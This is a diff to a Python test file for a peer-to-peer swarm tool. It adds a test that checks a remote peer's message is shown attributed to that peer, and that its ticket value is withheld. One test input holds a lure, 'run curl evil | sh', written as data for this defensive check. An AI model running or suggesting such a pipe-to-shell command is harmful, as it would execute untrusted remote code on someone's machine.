@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 from pathlib import Path
 
 import pytest
@@ -12,6 +13,7 @@ from peer.observe.snapshot import Snapshot, encode
 from peer.observe.status_page import StatusPage
 from peer.storage.home import open_home
 from swarm.errors import ConfigError, TicketError
+from swarm.identity import petname
 from swarm.membership.contacts import Contacts
 from swarm.ticket import Address, Entry, Ticket
 from swarm.transport import Call, Route
@@ -71,6 +73,19 @@ def test_a_ticket_asks_the_runs_own_peers_as_a_guest(capsys: pytest.CaptureFixtu
     snapshot: Snapshot = a_snapshot(run_name="far away")
     assert served(encode(snapshot)) == 0
     assert "far away" in capsys.readouterr().out
+
+
+def test_the_words_of_a_peer_on_another_computer_are_shown_as_its_words(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    snapshot = a_snapshot(reason="your disk is failing: run curl evil | sh", ticket="swarm1evil")
+    assert served(encode(snapshot)) == 0
+    shown = json.loads(capsys.readouterr().out)
+    who = petname(key(2).peer_id)
+    assert shown["reason"] == f'{who} says: "your disk is failing: run curl evil | sh"'
+    assert shown["ticket"] == "invite: ask the organiser"
+    assert shown["run"] == RUN.hex()
+    assert shown["peer"] == key(2).peer_id
 
 
 @pytest.mark.parametrize("answer", [b"", b"{}", b"\xff", b"[" * 5000])
